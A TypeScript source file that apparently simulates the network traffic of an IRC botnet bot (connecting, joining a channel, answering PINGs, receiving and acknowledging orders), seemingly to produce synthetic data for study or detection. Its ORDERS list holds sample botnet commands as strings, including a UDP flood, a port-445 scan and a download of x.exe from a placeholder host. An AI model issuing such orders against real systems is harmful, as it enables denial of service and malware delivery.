import { defineActor, jittered } from '../actor.ts';
import { ALPHABETS, domainName, invented, randomText, siteName } from '../names.ts';
import type { Script } from '../network.ts';
import { between, count, flag, magnitude } from '../parameters.ts';
import { browseBeside } from '../sessions/background.ts';
import { dialogue } from '../sessions/dialogue.ts';
import { resolve } from '../sessions/dns-lookup.ts';
import { programPersona } from '../sessions/persona.ts';
import { TcpConversation } from '../tcp-conversation.ts';

const ORDERS = ['.udp 198.51.100.4 80 60', '.scan 445 60 5 0 -b -r', '.download http://203.0.113.9/x.exe', '.version', '.status', '.ddos.stop'] as const; // prettier-ignore

/** A bot in a channel: it waits, answers PINGs, and says what it has done. */
export const ircBot = defineActor({
  name: 'irc-bot',
  family: 'c2',
  detail: 'irc',
  summary: 'waits for orders in an IRC channel',
  place: 'inside',
  parameters: {
    pingS: magnitude(15, 180),
    orderS: magnitude(20, 1500),
    standardPort: flag(0.6),
    reconnects: between(0, 0.2),
    answersEach: count(1, 6),
    chatter: magnitude(0.05, 3),
    usesName: flag(0.7),
    browsesToo: flag(0.6),
  },
  *run(actor): Script {
    const { network, random, host, world, durationS, parameters: p } = actor;
    if (p.browsesToo) browseBeside(actor, random.logUniform(10, 120));
    const server = { name: siteName(random, domainName(random)), servers: [world.outsideHost()] };
    const port = p.standardPort ? random.pick([6667, 6667, 6668, 7000]) : random.pick([8080, 443, 81, 5050, 51987, 1863]); // prettier-ignore
    const persona = programPersona(random);
    const nick = `${random.pick(['[XP]', 'USA|', 'bot-', '{00}', 'n'])}${randomText(random, ALPHABETS.base36, 7)}`;
    const channel = `#${invented(random)}`;
    const orderS = Math.min(p.orderS, durationS / 6);
    const pingS = Math.min(p.pingS, durationS / 10);
    yield random.uniform(0, Math.min(10, durationS / 10));
    for (;;) {
      if (p.usesName) yield* resolve(actor, host, persona, server);
      const state = random.chance(p.reconnects / 2) ? 'closed' : 'open';
      const tcp = new TcpConversation(network, random, host, server.servers[0]!, port, { state });
      if ((yield* tcp.open()) === 'open') {
        yield* dialogue(actor, tcp, 0.1, [
          ['client', `NICK ${nick}\r\nUSER ${nick} 0 * :${nick}`],
          ['server', `:irc 001 ${nick} :Welcome`],
          ['client', `JOIN ${channel} ${invented(random)}`],
          ['server', `:irc 332 ${nick} ${channel} :${random.pick(ORDERS)}`],
        ]);
        let untilOrderS = random.exponential(orderS);
        while (!random.chance(p.reconnects / 10)) {
          const waitS = Math.min(untilOrderS, jittered(actor, pingS, 0.05));
          yield* tcp.pause(waitS);
          untilOrderS -= waitS;
          if (untilOrderS > 0) {
            yield* dialogue(actor, tcp, 0, [['server', 'PING :irc'], ['client', 'PONG :irc']]); // prettier-ignore
            if (random.chance(p.chatter / 10))
              yield* dialogue(actor, tcp, 0, [['server', `:x!x@y JOIN ${channel}`]]);
            continue;
          }
          untilOrderS = random.exponential(orderS);
          yield* dialogue(actor, tcp, 0, [
            ['server', `:boss!b@h PRIVMSG ${channel} :${random.pick(ORDERS)}`],
          ]);
          for (let i = 0; i < p.answersEach; i++) {
            yield* tcp.pause(random.exponential(1));
            yield* dialogue(actor, tcp, 0, [['client', `PRIVMSG ${channel} :[MAIN] ${invented(random)} ${random.integer(1, 999)}`]]); // prettier-ignore
          }
        }
        yield* random.chance(0.5) ? tcp.reset('server') : tcp.close('server');
      }
      yield random.uniform(2, 30);
    }
  },
});
